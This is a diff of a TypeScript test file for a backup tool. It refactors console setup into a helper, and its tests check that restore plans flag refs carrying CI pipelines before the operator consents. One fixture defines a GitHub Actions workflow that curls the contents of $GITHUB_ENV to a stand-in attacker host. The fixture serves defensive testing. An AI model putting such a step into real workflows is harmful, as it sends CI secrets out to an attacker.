@@ -4,10 +4,7 @@ import { join } from 'node:path';
 import { CliWorkspace } from '../helpers/cli.js';
 import { refNames, sh } from '../helpers/git.js';
 import { fastImport, initBare } from '../helpers/git-fast.js';
-import { tempDir } from '../helpers/vault.js';
-import { createConsoleHost } from '../../src/host/console/console-host.js';
-import { defaultHost } from '../../src/host/context.js';
-import { consoleClient } from '../helpers/console-client.js';
+import { withUnlockedConsole } from '../helpers/console-client.js';
 
 const CI = 'name: ci\non: push\njobs: { test: { runs-on: ubuntu-latest, steps: [{ run: make test }] } }\n';
 const EXFIL = 'name: exfil\non: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl -d @$GITHUB_ENV https://attacker.example" }] } }\n';
@@ -47,18 +44,11 @@ describe('what a restore pushes is named before the operator consents', async ()
   });
 
   it("the console's plan names it on the item, before the typed confirmation", async () => {
-    const dir = tempDir('bulkhead-console-');
-    const core = createConsoleHost({ ...defaultHost(), cacheRoot: join(dir, 'cache') }, join(dir, 'console.db'));
-    try {
-      const { ok } = consoleClient(core);
-      const { id: vaultId } = await ok('vaults.add', { name: 'prod', url: ws.store, identityPath: join(ws.dir, 'id.json') });
-      await ok('session.unlock', { identity: { path: join(ws.dir, 'id.json') }, passphrase: ws.env.BULKHEAD_PASSPHRASE });
+    await withUnlockedConsole(ws, async ({ ok, vaultId, dir }) => {
       const plan = await ok('restore.plan', { vaultId, snapshot: 'latest', paths: ['app/refs/refs/heads/deploy', 'app/refs/refs/heads/docs'], target: join(dir, 'x') });
       expect(plan.pushesCommits).toBe(true);
       expect(plan.items.map((i) => i.runsCi)).toEqual([[expect.stringMatching(deployLine)], undefined]);
-    } finally {
-      core.close();
-    }
+    });
   });
 
   it('a whole repository pushed into an empty remote: each ref carrying a pipeline is named and refused without consent', async () => {
